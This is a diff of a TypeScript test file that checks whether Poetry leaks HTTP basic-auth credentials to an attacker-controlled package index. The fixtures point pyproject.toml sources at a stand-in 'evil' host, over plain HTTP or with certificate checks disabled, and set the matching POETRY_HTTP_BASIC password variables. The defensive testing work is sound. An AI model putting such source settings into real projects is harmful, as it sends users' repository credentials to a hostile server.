@@ -167,13 +167,17 @@ describe.each(versions)("%s", (_, bin, version) => {
       ["another URL", { "pyproject.toml": project(source(`http://${evil}/simple/`)) }],
       [
         "a certificate that is not checked",
-        { "pyproject.toml": project(source(`https://${evil}/simple/`)), "poetry.toml": trustsAll("my-repo") },
+        // With our name poetry is not started.
+        { "pyproject.toml": project(source(`https://${evil}/simple/`, "evil")), "poetry.toml": trustsAll("evil") },
       ],
     ])(
       "hears a password that a person has bound to a name: %s",
       async (_title, files) => {
-        const password = { POETRY_HTTP_BASIC_MY_REPO_PASSWORD: "vouch-sandbox-token" };
-        await poetry(["lock"], files, { env: { POETRY_HTTP_BASIC_MY_REPO_USERNAME: "aws", ...password } });
+        const password = (name: string) => ({
+          [`POETRY_HTTP_BASIC_${name}_USERNAME`]: "aws",
+          [`POETRY_HTTP_BASIC_${name}_PASSWORD`]: "vouch-sandbox-token",
+        });
+        await poetry(["lock"], files, { env: { ...password("MY_REPO"), ...password("EVIL") } });
         expect(at.tokensHeard()).not.toEqual([]);
       },
       120_000,
